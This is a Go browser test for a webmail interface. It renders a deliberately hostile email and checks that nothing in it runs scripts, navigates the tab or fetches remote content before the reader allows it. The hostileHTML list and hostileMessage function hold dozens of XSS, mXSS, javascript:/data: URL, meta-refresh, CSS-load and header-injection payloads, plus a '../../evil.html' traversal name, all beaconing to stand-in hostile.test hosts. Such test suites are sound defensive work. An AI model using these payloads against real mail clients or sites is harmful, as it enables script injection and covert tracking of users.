package webui

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
)

// Each trick calls a host of its own: js-… when a script ran, load-… when
// something was loaded that no reader can allow, see-… for what is loaded when
// remote content is allowed.
var hostileHTML = []string{
	`<script>new Image().src='http://js-script.hostile.test/'; try { top.pwned = 1; parent.document.title = 'pwned' } catch {}</script>`,
	`<script src="http://js-src.hostile.test/x.js"></script>`,
	`<script type="module">import 'http://js-module.hostile.test/x.js'</script>`,
	`<script src="cid:js@x"></script>`,
	`<img src=x onerror="new Image().src='http://js-onerror.hostile.test/'">`,
	`<body onload="new Image().src='http://js-onload.hostile.test/'" background="http://see-background.hostile.test/">`,
	`<svg onload="new Image().src='http://js-svg.hostile.test/'"><script>new Image().src='http://js-svgscript.hostile.test/'</script><image href="http://see-svgimage.hostile.test/"/><use href="http://load-svguse.hostile.test/#x"/></svg>`,
	`<svg><style><img src=x onerror="new Image().src='http://js-mxss.hostile.test/'"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;new Image().src='http://js-math.hostile.test/'&quot;&gt;">`,
	`<details open ontoggle="new Image().src='http://js-toggle.hostile.test/'">x</details>`,
	`<input autofocus onfocus="new Image().src='http://js-focus.hostile.test/'">`,
	`<marquee onstart="new Image().src='http://js-marquee.hostile.test/'">x</marquee>`,
	`<video onloadstart="new Image().src='http://js-video.hostile.test/'" poster="http://see-poster.hostile.test/" src="http://see-video.hostile.test/"></video>`,
	`<a id=js href="javascript:new Image().src='http://js-link.hostile.test/'">script link</a>`,
	`<a id=jstop target=_top href=" &#9;java&#10;script:new Image().src='http://js-toplink.hostile.test/'">script link</a>`,
	`<a id=top target=_top href="http://link-top.hostile.test/">top link</a>`,
	`<a id=data href="data:text/html,<script>new Image().src='http://js-datalink.hostile.test/'</script>">data link</a>`,
	`<meta http-equiv="refresh" content="0;url=http://load-refresh.hostile.test/">`,
	`<meta http-equiv="refresh" content="0;url=data:text/html,<script>new Image().src='http://js-refresh.hostile.test/'</script>">`,
	`<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
	`<iframe src="http://load-frame.hostile.test/"></iframe>`,
	`<iframe srcdoc="<script>new Image().src='http://js-srcdoc.hostile.test/'</script><img src='http://see-srcdoc.hostile.test/'>"></iframe>`,
	`<iframe src="data:text/html,<script>new Image().src='http://js-dataframe.hostile.test/'</script>"></iframe>`,
	`<iframe src="javascript:new Image().src='http://js-jsframe.hostile.test/'"></iframe>`,
	`<iframe src="cid:page@x"></iframe><iframe src="/"></iframe>`,
	`<object data="http://load-object.hostile.test/"></object><embed src="http://load-embed.hostile.test/"><object data="cid:page@x"></object><embed src="cid:svg@x" type="image/svg+xml">`,
	`<img src="cid:svg@x"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='new Image().src=&quot;http://js-datasvg.hostile.test/&quot;'><image href='http://load-datasvg.hostile.test/'/></svg>">`,
	`<form id=form action="http://load-form.hostile.test/" method=post><input name=a value=b><button id=send formaction="http://load-formaction.hostile.test/">send</button></form>`,
	`<link rel="stylesheet" href="http://see-sheet.hostile.test/"><link rel="preload" as="image" href="http://load-preload.hostile.test/"><link rel="prefetch" href="http://load-prefetch.hostile.test/"><link rel="preconnect" href="https://load-preconnect.hostile.test/"><link rel="dns-prefetch" href="//load-dns.hostile.test/"><link rel="icon" href="http://load-icon.hostile.test/"><link rel="manifest" href="http://load-manifest.hostile.test/">`,
	`<style>@import "http://see-import.hostile.test/"; @font-face { font-family: f; src: url(http://see-font.hostile.test/) } p { font-family: f; background: url('http://see-css.hostile.test/') } p::after { content: url(http://see-content.hostile.test/) } a[href^="h"] { background: -webkit-image-set("http://see-imageset.hostile.test/" 1x) }</style><p>styled`,
	`<p style="background:u\72l(http://see-escaped.hostile.test/)">escaped`,
	`<input type=image src="http://see-inputimage.hostile.test/"><audio autoplay src="http://see-audio.hostile.test/"></audio><img srcset="http://see-srcset.hostile.test/ 1x"><picture><source srcset="http://see-source.hostile.test/"><img></picture>`,
	`<base href="http://see-base.hostile.test/"><img src="relative.png">`,
	`<a id=link href="http://link-plain.hostile.test/" ping="http://load-ping.hostile.test/" referrerpolicy=unsafe-url>link</a>`,
	`<img src="http://see-image.hostile.test/x.gif">`,
	`<img src="cid:dot@x" alt="the last thing">`,
}

func hostileMessage() string {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	part := func(header, body string) string {
		return "--r\r\n" + header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(body) + "\r\n"
	}
	const script = `new Image().src='http://js-part.hostile.test/'`
	return "From: <script>alert(1)</script> <x@hostile.test>\r\nTo: \"<img src=x onerror=alert(1)>\" <bob@app.test>\r\n" +
		"Subject: <img src=x onerror=\"window.pwned=1\">{{7*7}}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=r\r\n\r\n" +
		part("Content-Type: text/html; charset=utf-8", strings.Join(hostileHTML, "\n")) +
		part("Content-Type: image/gif\r\nContent-ID: <dot@x>", "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x01D\x00;") +
		part("Content-Type: text/javascript\r\nContent-ID: <js@x>", script) +
		part("Content-Type: text/html; name=\"../../evil.html\"\r\nContent-ID: <page@x>\r\nContent-Disposition: inline", "<script>"+script+"</script><img src='http://see-part.hostile.test/'>") +
		part("Content-Type: image/svg+xml\r\nContent-ID: <svg@x>\r\nContent-Disposition: inline", `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>`+script+`</script><image href="http://load-svgpart.hostile.test/"/></svg>`) +
		part("Content-Type: application/xhtml+xml; name=x.xhtml\r\nContent-Disposition: inline", `<html xmlns="http://www.w3.org/1999/xhtml"><script>`+script+`</script></html>`) +
		"--r--\r\n"
}

// watched is a server whose requests are noted.
type watched struct {
	mu    sync.Mutex
	paths []string
}

func (w *watched) wrap(next http.Handler) http.Handler {
	return http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		w.paths = append(w.paths, r.Method+" "+r.URL.RequestURI())
		w.mu.Unlock()
		next.ServeHTTP(rw, r)
	})
}

func (w *watched) count(path string) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	n := 0
	for _, p := range w.paths {
		if strings.HasSuffix(p, path) {
			n++
		}
	}
	return n
}

// TestHostileMail opens a message full of tricks with a real browser, in the
// page and by itself. None may run a script, and nothing may be asked of
// another host before the reader allows it.
func TestHostileMail(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("starts a browser")
	}
	browser := startBrowser(t)
	f := start(t, Config{})
	seen := &watched{}
	h := httptest.NewServer(seen.wrap(f.srv.Handler()))
	t.Cleanup(h.Close)
	t.Cleanup(f.srv.end)
	id := f.putOctets(hostileMessage(), "x@hostile.test", "bob@app.test").ID
	at := "/v1/messages/" + id

	hostile := func(kinds ...string) (hosts []string) {
		for _, host := range browser.Asked() {
			name, ours := strings.CutSuffix(host, ".hostile.test")
			if ours && slices.ContainsFunc(kinds, func(k string) bool { return strings.HasPrefix(name, k) }) {
				hosts = append(hosts, name)
			}
		}
		return hosts
	}
	// never checks what may not happen whatever the reader does.
	never := func(when string) {
		t.Helper()
		if got := hostile("js-", "load-"); len(got) > 0 {
			t.Errorf("%s: the message reached %q", when, got)
		}
	}

	tb := open(t, browser, h.URL, 1440, 900)
	tb.allowed, tb.abroad = []string{""}, true // blocked tricks are complained about
	tb.goTo("/?m=" + id)
	tb.wait(`document.querySelector('iframe')`)
	waitFor(t, "the frame's own image", func() bool { return seen.count("/parts/2") > 0 })
	tb.wait(`document.querySelector('.remote').innerText.includes('blocked')`)
	never("shown in the page")
	if got := hostile("see-", "link-"); len(got) > 0 {
		t.Errorf("before it was allowed, the message loaded %q", got)
	}
	if eval[bool](tb, `document.querySelector('iframe').contentDocument !== null`) {
		t.Error("the frame is of one origin with the page")
	}
	if title := eval[string](tb, `document.title + location.pathname + location.search`); title != "Restante/?m="+id && title != "(1) Restante/?m="+id {
		t.Errorf("the message changed the page: %s", title)
	}
	if eval[bool](tb, `'pwned' in window || document.querySelector('#subject').children.length > 0`) {
		t.Error("a header field became markup")
	}

	tb.click(".remote input")
	waitFor(t, "the remote image that was allowed", func() bool { return slices.Contains(hostile("see-"), "see-image") })
	waitFor(t, "the frame's own image", func() bool { return seen.count("/parts/2") > 1 })
	never("with remote content")
	for _, name := range []string{"see-css", "see-sheet", "see-import", "see-poster"} {
		waitFor(t, name, func() bool { return slices.Contains(hostile("see-"), name) })
	}

	// By itself in a tab.
	tb.goTo(at + "/html?remote=1")
	if origin := eval[string](tb, `self.origin`); origin != "null" {
		t.Errorf("opened by itself, its origin is %s", origin)
	}
	here := eval[string](tb, `location.href`)
	for _, link := range []string{"#js", "#jstop", "#data", "#send"} {
		tb.do(chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`document.querySelector(%q).scrollIntoView()`, link)))
		tb.click(link)
	}
	tb.click("#link") // a link that works shows that the others were clicked
	waitFor(t, "the link to open", func() bool { return slices.Contains(hostile("link-"), "link-plain") })
	if now := eval[string](tb, `location.href`); now != here {
		t.Errorf("the message took its tab to %s", now)
	}
	never("by itself")

	// Its parts by themselves are saved and not shown.
	for part, name := range map[string]string{"3": "a script", "4": "HTML", "5": "SVG", "6": "XHTML"} {
		ctx, cancel := context.WithTimeout(tb.ctx, deadline)
		err := chromedp.Do(ctx, chromedp.Navigate(h.URL+at+"/parts/"+part))
		cancel()
		if err == nil || !strings.Contains(err.Error(), "ERR_ABORTED") {
			t.Errorf("opening %s gave %v, want a download", name, err)
		}
	}
	never("its parts")
	if changed := seen.count("PATCH " + at); changed > 1 {
		t.Errorf("%d changes were asked for, want the page's one", changed)
	}
	if seen.count("DELETE "+at) > 0 {
		t.Error("the message deleted itself")
	}
}
